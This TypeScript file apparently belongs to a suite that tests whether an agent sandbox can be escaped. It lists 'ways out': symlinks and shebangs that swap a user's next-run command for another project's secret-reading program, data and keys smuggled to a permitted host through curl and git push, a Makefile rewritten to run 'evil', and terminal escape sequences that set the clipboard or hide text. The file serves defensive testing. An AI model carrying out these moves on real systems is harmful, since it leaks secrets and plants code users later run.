import { mkdir, readFile, rm, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { type Attempt, changes, reaches, reads } from '../attempt.ts';
import { allowedAddress, type Target } from '../planted-host.ts';

const group = 'ways out';
const good = ({ host }: Target) => `http://${allowedAddress}:${host.ports.allowed}`;
/** The next start, by the person, of a command that lies in the workspace. */
const started = ['./w-tool'] as const;

const nextStart: readonly Attempt[] = [
  ['a link to another project’s program', ({ home }: Target) => `ln -sf '${home}/other-project/scripts/run.sh' w-tool`],
  [
    'a script whose interpreter is another project’s program',
    ({ home }: Target) => `rm -f w-tool; printf '#!${home}/other-project/scripts/run.sh\\n' > w-tool; chmod +x w-tool`,
  ],
  [
    'a link to a program in another virtual environment',
    ({ home }: Target) => `ln -sf '${home}/other-venv/bin/tool' w-tool`,
  ],
  [
    'a chain of links through another project and back',
    ({ home }: Target) => `ln -sf '${home}/other-project/scripts/run.sh' w-2; ln -sf w-2 w-tool`,
  ],
].map(
  ([what, steps]): Attempt =>
    reads(
      group,
      `the command the person starts next, replaced by ${what}`,
      (target) => [(steps as (target: Target) => string)(target), started],
      {
        alone: true,
        async prepare({ home, workspace }) {
          await rm(path.join(workspace, 'w-tool'), { force: true });
          await writeFile(path.join(workspace, 'w-tool'), '#!/bin/sh\necho ours\n', { mode: 0o755 });
          await mkdir(path.join(home, 'other-venv/bin'), { recursive: true });
          await writeFile(path.join(home, 'other-venv/pyvenv.cfg'), 'home = /usr/bin\n');
          await writeFile(
            path.join(home, 'other-venv/secret.txt'),
            await readFile(path.join(home, 'other-project/secret.txt'), 'utf8'),
          );
          await writeFile(
            path.join(home, 'other-venv/bin/tool'),
            '#!/bin/sh\ncat "$(dirname "$(realpath "$0")")/../secret.txt"\n',
            { mode: 0o755 },
          );
        },
      },
    ),
);

const granted: readonly Attempt[] = [
  reaches(
    group,
    'data in the address of a request to a granted host',
    (t) => `curl -sg -m 8 --noproxy '' '${good(t)}/?data=${t.mark}'`,
  ),
  reaches(
    group,
    'somebody else’s key at a granted host',
    (t) => `curl -sg -m 8 --noproxy '' -H 'Authorization: Bearer ${t.mark}' '${good(t)}/'`,
  ),
  reaches(
    group,
    'a push to somebody else’s repository at a granted host',
    (t) =>
      `git -c http.proxy="$HTTP_PROXY" push '${good(t)}/${t.mark}.git' HEAD:refs/heads/x; NO_PROXY= no_proxy= git push '${good(t)}/${t.mark}.git' HEAD:refs/heads/x`,
  ),
];

const later: readonly Attempt[] = [
  changes(
    group,
    'a script of the repository that the person runs later',
    () => 'printf "all:\\n\\tevil\\n" > Makefile',
    ({ workspace }) => [path.join(workspace, 'Makefile')],
  ),
  clipboard(
    'the person’s clipboard, set by a sequence in the output',
    "printf '\\033]52;c;ZXZpbA==\\007'",
    '\x1b]52;c;',
  ),
  clipboard('text made invisible by a sequence in the output', "printf '\\033[8mevil\\033[0m'", '\x1b[8m'),
];

/** What a terminal would obey arrives there as it was printed. */
function clipboard(what: string, steps: string, sequence: string): Attempt {
  return {
    group,
    what,
    seen: 'the sequence arrived in the person’s terminal',
    steps: () => steps,
    alone: true,
    terminal: true,
    succeeded: (_target, { output }) => output.includes(sequence),
  };
}

export const waysOut: readonly Attempt[] = [...nextStart, ...granted, ...later];
